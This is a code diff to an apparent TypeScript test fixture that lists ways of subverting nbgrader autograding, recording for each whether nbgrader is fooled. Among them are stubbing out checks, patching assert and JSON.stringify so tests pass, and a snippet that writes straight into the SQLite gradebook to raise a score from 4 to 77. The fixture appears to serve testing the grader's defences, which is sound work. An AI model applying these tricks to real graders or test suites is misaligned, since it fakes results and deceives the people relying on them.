@@ -6,8 +6,8 @@ import { type Cell, type Notebook, sourceOf } from "../../kernel-lib/course/note
 /** A blank exercise with something done to it. */
 export interface Attack {
   name: string;
-  /** What nbgrader gives for it: its honest score, or more. */
-  fools: "nobody" | "nbgrader";
+  /** What nbgrader's gradebook has of it then: 0 points, more than was earned (somebody's), or nothing, its run being over. */
+  nbgrader: "is not fooled" | "is fooled" | "is stopped";
   make: (fresh: Notebook) => Notebook;
 }
 
@@ -29,10 +29,10 @@ function setUpBy(text: string): (fresh: Notebook) => Notebook {
   return each((cell) => (cell.id === "setup" ? { ...cell, source: text } : cell));
 }
 
-/** Any process of the teacher's account can write to it, and nbgrader runs notebooks as that account. */
+/** nbgrader runs notebooks as the teacher's account, which may write to it: here the 4 points of somebody become 77. */
 const WRITE_TO_GRADEBOOK = `
 import { execFileSync } from "node:child_process";
-const book = "import sqlite3; b = sqlite3.connect('../../../gradebook.db', timeout=30); b.execute('update grade set manual_score = 77'); b.commit()";
+const book = "import sqlite3; b = sqlite3.connect('../../../gradebook.db', timeout=30); b.execute('update grade set auto_score = 77 where auto_score = 4'); b.commit()";
 execFileSync("python3", ["-c", book]);
 `;
 
@@ -40,33 +40,28 @@ execFileSync("python3", ["-c", book]);
 export const ATTACKS: Attack[] = [
   {
     name: "a-check-of-its-own",
-    fools: "nbgrader",
+    nbgrader: "is fooled",
     make: setUpBy("const check = async (...anything: unknown[]) => {};"),
   },
-  { name: "b-checks-edited", fools: "nobody", make: withSource("check", () => "1 + 1") },
-  { name: "c-checks-deleted", fools: "nobody", make: each((cell) => (roleOf(cell) === "check" ? [] : cell)) },
-  {
-    name: "d-checks-doubled",
-    fools: "nobody",
-    make: each((cell) => (roleOf(cell) === "check" ? [cell, { ...cell, id: `${cell.id}-2`, source: "1 + 1" }] : cell)),
-  },
+  { name: "b-checks-edited", nbgrader: "is not fooled", make: withSource("check", () => "1 + 1") },
+  { name: "c-checks-deleted", nbgrader: "is not fooled", make: each((cell) => (roleOf(cell) === "check" ? [] : cell)) },
   {
     name: "e-checks-split",
-    fools: "nobody",
+    nbgrader: "is not fooled",
     make: withSource("check", (source) => source.split("\n")[0]?.replace("{", "{});") ?? ""),
   },
   {
     name: "f-more-points",
-    fools: "nobody",
+    nbgrader: "is not fooled",
     make: each((cell) => {
       const nbgrader = { ...(cell.metadata.nbgrader as object), points: 400 };
       return roleOf(cell) === "check" ? { ...cell, metadata: { ...cell.metadata, nbgrader } } : cell;
     }),
   },
-  { name: "g-exit", fools: "nobody", make: withSource("answer", (source) => `${source}\nprocess.exit(0);`) },
+  { name: "g-exit", nbgrader: "is not fooled", make: withSource("answer", (source) => `${source}\nprocess.exit(0);`) },
   {
     name: "h-assert-patched",
-    fools: "nobody",
+    nbgrader: "is not fooled",
     make: setUpBy(`import { check, hint } from "kernel-lib/course";
 import assert from "node:assert";
 for (const name of ["ok", "equal", "deepEqual", "deepStrictEqual"]) (assert as any)[name] = () => {};
@@ -75,7 +70,12 @@ JSON.stringify = () => '{"outcome":"passed"}';`),
   },
   {
     name: "i-gradebook",
-    fools: "nbgrader",
-    make: (fresh) => setUpBy(`import { check, hint } from "kernel-lib/course";${WRITE_TO_GRADEBOOK}`)(fresh),
+    nbgrader: "is fooled",
+    make: setUpBy(`import { check, hint } from "kernel-lib/course";${WRITE_TO_GRADEBOOK}`),
+  },
+  {
+    name: "z-checks-doubled",
+    nbgrader: "is stopped",
+    make: each((cell) => (roleOf(cell) === "check" ? [cell, { ...cell, id: `${cell.id}-2`, source: "1 + 1" }] : cell)),
   },
 ];
